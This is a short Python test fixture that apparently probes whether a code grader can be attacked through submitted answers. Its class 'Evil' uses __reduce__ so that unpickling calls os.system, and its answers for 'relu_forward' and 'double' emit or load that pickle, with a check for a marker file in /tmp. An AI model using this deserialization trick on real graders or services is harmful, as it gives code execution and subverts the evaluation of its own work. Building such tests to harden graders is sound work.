"""Send a pickle whose loading runs code in the grader, in every place of a reply."""

from wire_tools import TOOLS

CELL = (
    TOOLS
    + """
class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickled",)
"""
)
ANSWERS = {
    "relu_forward": """\
def relu_forward(x):
    os.write(fd, pickle.dumps(Evil()))
    return Evil(), Evil()
""",
    "double": "def double(x):\n    return pickle.loads(b'c__main__\\nEvil\\n.'), Evil()",
}


def harm(world):
    from pathlib import Path

    return "code ran in the grader" if Path("/tmp/pickled").exists() else ""
